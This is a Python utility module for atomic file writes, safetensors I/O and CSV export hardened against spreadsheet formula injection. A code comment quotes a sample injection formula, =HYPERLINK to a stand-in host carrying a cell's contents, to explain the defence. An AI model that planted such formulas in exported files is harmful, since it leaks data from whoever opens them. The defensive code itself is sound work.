"""Leaf module: atomic file writes and the one file-hash helper (nothing here imports the package).

Every file a run directory, a cache or an export holds is written to a temp file beside it and renamed over
it, so a reader (or a later resume, or a grid counting finished runs) sees the whole file or none: a kill -9
or a full disk leaves the old file or nothing, never a cut-short one. A failed write removes its temp file."""
from __future__ import annotations

import contextlib
import hashlib
import json
import os
import tempfile
from pathlib import Path
from typing import TYPE_CHECKING, Any, Iterator

if TYPE_CHECKING:
    import torch


@contextlib.contextmanager
def atomic_path(path: str | Path, suffix: str = "") -> Iterator[Path]:
    """Yield a temp path beside ``path`` for a writer that needs a file name (``to_csv``, ``savefig``,
    ``np.save``); renamed over ``path`` when the block ends without an error, removed otherwise."""
    path = Path(path)
    tmp = None
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=suffix or path.suffix)
        os.close(fd)
        yield Path(tmp)
        os.replace(tmp, path)
    except OSError as e:
        if e.filename is None or (tmp and str(e.filename) == tmp) or str(e.filename).startswith(
                str(path.parent / f".{path.name}.")):
            e.filename = str(path)  # name the file the user knows, not our temp file
        raise
    finally:
        if tmp and os.path.exists(tmp):
            os.unlink(tmp)


def atomic_write_bytes(path: Path, data: bytes) -> None:
    """Write ``data`` to a temp file beside ``path``, then rename it over ``path``: readers see all or nothing."""
    with atomic_path(path) as tmp:
        with open(tmp, "wb") as f:
            f.write(data)


def atomic_write_text(path: Path, text: str) -> None:
    atomic_write_bytes(path, text.encode("utf-8"))


# A spreadsheet runs a cell that starts with one of these as a formula (OWASP "CSV injection"): a class, label or
# file name like =HYPERLINK("http://x/?"&A2) would leak the table when a clinician opens the CSV.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(v: Any) -> Any:
    """A value as a CSV cell no spreadsheet runs: a text cell that starts with a formula character (after any
    single quotes) gets one more leading ``'`` (OWASP's rule); numbers and other text are left as they are.
    ``csv_value`` undoes it exactly ("-1" -> "'-1" -> "-1"; "'=x" -> "''=x" -> "'=x")."""
    if isinstance(v, str) and v.lstrip("'")[:1] in FORMULA_START and v.lstrip("'"):
        return "'" + v
    return v


def csv_value(v: Any) -> Any:
    """The value ``csv_cell`` was given (a cell the tool wrote, read back)."""
    if isinstance(v, str) and v[:1] == "'" and v.lstrip("'")[:1] in FORMULA_START and v.lstrip("'"):
        return v[1:]
    return v


def csv_safe(frame: Any) -> Any:
    """``frame`` with every text cell and column name through ``csv_cell`` (numeric columns untouched)."""
    import pandas as pd
    out = frame.rename(columns=csv_cell)
    for col in range(out.shape[1]):
        s = out.iloc[:, col]
        if _text(pd, s) or isinstance(s.dtype, pd.CategoricalDtype):
            out.isetitem(col, s.astype(object).map(csv_cell))
    return out


def _has_cr(frame: Any) -> bool:
    import pandas as pd
    return any("\r" in str(c) for c in frame.columns) or any(
        isinstance(v, str) and "\r" in v for i in range(frame.shape[1]) if _text(pd, frame.iloc[:, i])
        for v in frame.iloc[:, i])


def _text(pd: Any, s: Any) -> bool:
    return pd.api.types.is_object_dtype(s.dtype) or pd.api.types.is_string_dtype(s.dtype)


def atomic_to_csv(frame, path: Path, **kwargs: Any) -> None:
    """``frame.to_csv(path, **kwargs)`` through a temp file (pandas writes in chunks: a kill could cut it), every
    text cell made safe for spreadsheets (``csv_cell``). Every CSV the tool writes goes through here."""
    frame = csv_safe(frame)
    if "quoting" not in kwargs and _has_cr(frame):
        # pandas quotes a cell holding "\n" but not one holding "\r", which every CSV reader takes for the end of
        # the row: a file name with a carriage return would shift the table's columns.
        import csv
        kwargs["quoting"] = csv.QUOTE_NONNUMERIC
    with atomic_path(path) as tmp:
        frame.to_csv(tmp, **kwargs)


def read_csv(path: str | Path, **kwargs: Any) -> Any:
    """``pandas.read_csv`` of a CSV the tool wrote (or a manifest), ``csv_cell``'s quote undone in text cells and
    column names, so that labels like "-1" and names like "=x" round-trip."""
    import pandas as pd
    frame = pd.read_csv(path, **kwargs)
    frame = frame.rename(columns=csv_value)
    for col in range(frame.shape[1]):
        s = frame.iloc[:, col]
        if _text(pd, s):
            frame.isetitem(col, s.map(csv_value))
    return frame


def atomic_save_tensors(tensors: dict[str, torch.Tensor], path: Path, metadata: dict[str, str] | None = None) -> None:
    # Serialised in memory, then written by Python: a full disk is an OSError naming the file (the Rust
    # writer of safetensors.save_file raises its own error type, which the CLI could not name).
    # Imported here: torch takes 1-10 s to import on our CI box, and config (which writes YAML through this
    # module) must stay light for commands that never touch a tensor.
    from safetensors.torch import save as tensors_to_bytes
    atomic_write_bytes(path, tensors_to_bytes({k: v.detach().contiguous().cpu() for k, v in tensors.items()},
                                              metadata=metadata))


def read_tensors(path: str | Path) -> tuple[dict[str, torch.Tensor], dict[str, str]]:
    """(tensors, metadata) of a safetensors file, read in one go. ``safe_open`` / ``load_file`` reopen the file
    by name for each tensor (a zero-copy map): when another process renames a new version over it between
    those opens, the header of one version is applied to the data of the other and the values are garbage
    (measured: two processes sharing a feature cache). One read of one open file cannot mix versions."""
    from safetensors.torch import load as tensors_from_bytes
    data = Path(path).read_bytes()
    if len(data) < 8:
        raise ValueError(f"{len(data)} bytes: too short for a safetensors file")
    n = int.from_bytes(data[:8], "little")
    if n > len(data) - 8:
        raise ValueError("header longer than the file (cut short)")
    metadata = json.loads(data[8:8 + n]).get("__metadata__") or {}
    return tensors_from_bytes(data), metadata


def write_json(path: Path, obj: Any) -> None:
    atomic_write_bytes(path, json.dumps(obj, indent=2, default=str).encode())


def sha256_file(path: str | Path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()
